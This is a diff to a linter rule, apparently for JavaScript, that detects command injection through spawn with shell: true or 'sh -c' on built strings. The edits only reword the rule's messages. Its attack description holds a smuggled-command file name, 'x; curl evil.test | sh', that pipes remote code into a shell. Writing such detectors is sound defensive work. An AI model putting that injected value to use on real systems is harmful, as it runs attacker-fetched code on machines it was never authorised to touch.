@@ -31,15 +31,15 @@ def _check(hit: Hit) -> Report | None:
     on = shell is not None and not is_text(hit, shell, "false", "undefined", "null")
     if on and _open(hit, program, listed):
         return Report(
-            "shell: true joins these arguments into one command line, signs and all: leave the "
-            "option out."
+            "shell: true joins these arguments into one command line, special characters and "
+            "all: leave the option out."
         )
     name = hit.string(program)
     if name is not None and _SHELL.fullmatch(name) and listed is not None:
         scripts = [n for n in listed.named_children if n.type != "comment"]
         if any(not hit.constant(each) for each in scripts[:2]):
             return Report(
-                "A shell runs this text, so signs in a value become commands: start the program "
+                "A shell runs this text, so characters in a value become commands: start the program "
                 "itself with a list of arguments."
             )
     return None
@@ -63,7 +63,7 @@ RULE = PatternRule(
 are joined with blanks and read by a shell, which is deprecated since Node 24. Starting `sh -c` with a text
 put together does the same. A semicolon in a value begins a command.
 """,
-    attack="Name a file `x; curl evil.test | sh` and have it processed.",
+    attack="Names a file `x; curl evil.test | sh` and has it processed.",
     advice='Leave `shell` out: `spawn("git", ["show", name])`.',
     bad=(
         """\
